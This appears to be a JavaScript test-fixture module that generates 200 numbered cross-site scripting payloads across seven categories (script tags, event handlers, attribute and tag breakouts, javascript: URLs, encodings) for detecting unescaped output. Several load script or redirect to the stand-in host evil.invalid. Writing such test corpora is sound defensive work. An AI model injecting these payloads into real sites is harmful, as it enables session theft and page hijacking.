// Texts that would be more than texts where somebody forgot to escape them.
//
// In: nothing. Out: two hundred of them, by category. What they would run is `hit()` and `alert()`, what they would load
// comes from `evil.invalid`; each is short enough to be searched for, and says its number.

/** What breaks out of where a text may stand: of an element, of an attribute in either quotes, of a table. */
const BREAKOUTS = ['', '">', "'>", '</td></table>'];

const CATEGORIES = {
    scripts: [
        '<script>hit(N)</script>',
        '<ScRiPt>hit(N)</sCrIpT>',
        '<script/x>hit(N)</script>',
        '<script src=//evil.invalid/N>',
        '<svg><script>hit(N)</script>',
        '<scr<script>ipt>hit(N)',
    ],
    handlers: [
        '<img src=x onerror=hit(N)>',
        '<svg onload=hit(N)>',
        '<svg/onload=hit(N)//',
        '<body onload=hit(N)>',
        '<input autofocus onfocus=hit(N)>',
        '<details open ontoggle=hit(N)>',
        '<video src=x onerror=hit(N)>',
        '<b tabindex=1 autofocus onfocus=hit(N)>',
        '<marquee onstart=hit(N)>',
    ],
    attributes: [
        '" autofocus onfocus=hit(N) x="',
        "' autofocus onfocus=hit(N) x='",
        '" onmouseover=alert(N) style="',
        '` onerror=hit(N) `',
        '"onclick="alert(N)',
    ],
    addresses: [
        'javascript:hit(N)',
        'JaVaScRiPt:alert(N)//',
        'java\tscript:hit(N)',
        'data:text/html,<script>hit(N)</script>',
        '//evil.invalid/N',
        '<a href=javascript:hit(N)>x</a>',
        '<iframe src=javascript:hit(N)>',
    ],
    closings: [
        '</title><script>hit(N)</script>',
        '</textarea><svg onload=hit(N)>',
        '</style><svg onload=hit(N)>',
        '</script><svg onload=hit(N)>',
        '--><svg onload=hit(N)>',
        ']]><svg onload=hit(N)>',
        '<!-- N',
        '</select><svg onload=hit(N)>',
        '</code><svg onload=hit(N)>',
    ],
    structure: [
        '<base href=//evil.invalid/N/>',
        '<meta http-equiv=refresh content=0>N',
        '<link rel=stylesheet href=//evil.invalid>',
        '<style>*{display:none}</style>N',
        '<form id=act action=//evil.invalid>N',
        '<h1>N</h1></main></body></html>',
        '<div data-region=sites>N</div>',
        '<input name=mark value=N>',
    ],
    encodings: [
        '&lt;script&gt;hit(N)&lt;/script&gt;',
        '&#60;svg onload=hit(N)&#62;',
        '%3Csvg onload=hit(N)%3E',
        '\\u003csvg onload=hit(N)\\u003e',
        '\u202e<svg onload=hit(N)>\u200b',
        '{{hit(N)}}${hit(N)}<%=hit(N)%>',
    ],
};

/** All of them, with the category of each. */
export const PAYLOADS = Object.entries(CATEGORIES).flatMap(([category, cores]) =>
    cores.flatMap((core) => BREAKOUTS.map((breakout) => ({ category, text: breakout + core }))),
).map(({ category, text }, place) => ({ category, text: text.replaceAll('N', place) }));
